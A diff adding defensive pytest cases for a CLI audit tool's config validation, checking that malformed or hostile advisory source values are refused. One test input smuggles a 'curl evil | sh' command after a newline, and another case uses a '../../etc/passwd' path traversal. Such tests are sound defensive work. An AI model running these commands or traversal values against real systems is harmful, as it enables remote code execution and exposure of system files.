@@ -47,6 +47,14 @@ def _records(record: str) -> Callable[[Project, pytest.MonkeyPatch], None]:
     return setup
 
 
+def _config_source(value: str) -> Callable[[Project, pytest.MonkeyPatch], None]:
+    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
+        text = project.config.read_text(encoding="utf-8")
+        project.config.write_text(f"{text}\n[advisories]\nsource = {value}\n", encoding="utf-8")
+
+    return setup
+
+
 AUDIT = ("audit", "--source", "https://osv.invalid")  # waivers are refused before any request
 AUDIT_DIR = ("audit", "--source", "osv")
 
@@ -177,6 +185,34 @@ CASES = [
         "--source",
     ),
     Hostile(
+        "config-source-not-http",
+        _config_source('"ftp://osv.example"'),
+        ("audit",),
+        3,
+        "advisories.source",
+    ),
+    Hostile(
+        "config-source-userinfo",
+        _config_source('"https://user:pw@osv.example"'),
+        ("audit",),
+        3,
+        "advisories.source",
+    ),
+    Hostile(
+        "config-source-newline",
+        _config_source('"osv\\nRUN curl evil | sh"'),
+        ("audit",),
+        3,
+        "advisories.source",
+    ),
+    Hostile(
+        "config-source-not-a-string",
+        _config_source("[1, 2]"),
+        ("audit",),
+        3,
+        "advisories.source",
+    ),
+    Hostile(
         "record-id-traversal",
         _records("id: ../../etc/passwd\naffected: []\n"),
         AUDIT_DIR,
@@ -242,3 +278,21 @@ def test_a_password_in_the_source_url_is_not_printed(
     result = run_cli("--config", locked_project.config, "audit", "--source", source)
     assert result.code == 2
     assert "s3cret" not in result.err
+
+
+def test_the_configured_directory_is_relative_to_imagebot_toml(
+    locked_project: Project,
+    monkeypatch: pytest.MonkeyPatch,
+    run_cli: Run,
+    tmp_path_factory: pytest.TempPathFactory,
+) -> None:
+    monkeypatch.chdir(tmp_path_factory.mktemp("elsewhere"))
+    _config_source('"osv"')(locked_project, monkeypatch)
+    _records(
+        "id: PYSEC-2099-1\naffected:\n- package: {ecosystem: PyPI, name: numpy}\n"
+        "  ranges: [{type: ECOSYSTEM, events: [{introduced: '0'}, {fixed: '2.5'}]}]\n"
+    )(locked_project, monkeypatch)
+    result = run_cli("--config", locked_project.config, "audit")
+    assert result.code == 15, result.err
+    assert f"against {locked_project.path('osv')}" in result.err
+    assert "numpy==2.4.6 (extra.lock): PYSEC-2099-1, fixed in 2.5" in result.err
